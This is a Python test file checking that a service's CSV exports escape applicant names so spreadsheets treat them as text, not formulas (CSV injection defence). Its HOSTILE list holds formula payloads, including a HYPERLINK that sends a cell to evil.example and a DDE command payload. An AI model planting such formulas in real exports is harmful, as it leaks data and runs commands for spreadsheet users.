"""The lists' CSV files (service/web/export.py) never hand a spreadsheet program a formula.

A cell whose text starts with =, +, -, @, a tab or a carriage return is taken for a formula by Excel
and others (CSV injection, OWASP): an applicant named =HYPERLINK(…) would run in the county's
spreadsheet. Such text is written with a leading single quote, which shows it as text; numbers,
including negative amounts, and times stay as they are.
"""
import csv
import io
from datetime import datetime, timezone
from decimal import Decimal

from service.web import export

from .security_helpers import signed_in, web_app  # noqa: F401  (fixture)
from .test_web_lists import start

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+86 138', '-2+3+cmd|\' /C calc\'!A0',
           '@SUM(1+1)', '\t=1+1', '\r=1+1']


def _table(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode('utf-8-sig'), newline='')))


def test_hostile_names_are_text_in_the_case_and_task_exports(web_app):
    for seq, name in enumerate(HOSTILE, start=1):
        start('t01', name, seq)
    cw = signed_in(web_app, 't01_jingban')
    names = sorted(row[1] for row in _table(cw.get('/cases/export.csv'))[1:])
    assert names == sorted("'" + name for name in HOSTILE)
    tasks = _table(cw.get('/tasks/export.csv?assigned=all'))
    column = tasks[0].index('申请人')
    assert sorted(row[column] for row in tasks[1:]) == sorted("'" + name for name in HOSTILE)


def test_numbers_and_times_stay_as_they_are():
    columns = [('名称', 10, 'text'), ('金额', 8, 'int'), ('时间', 18, 'time')]
    at = datetime(2026, 9, 28, 1, 0, tzinfo=timezone.utc)
    rows = [['-5', -120, at], ['+1', Decimal('-3.50'), None], ['a-b', -0.5, None], ['=1', 7, None]]
    table = list(csv.reader(io.StringIO(export.csv_bytes(columns, rows).decode('utf-8-sig'), newline='')))
    assert table[1:] == [['-5', '-120', '2026-09-28 09:00'], ['+1', '-3.50', ''], ['a-b', '-0.5', ''],
                         ["'=1", '7', '']]
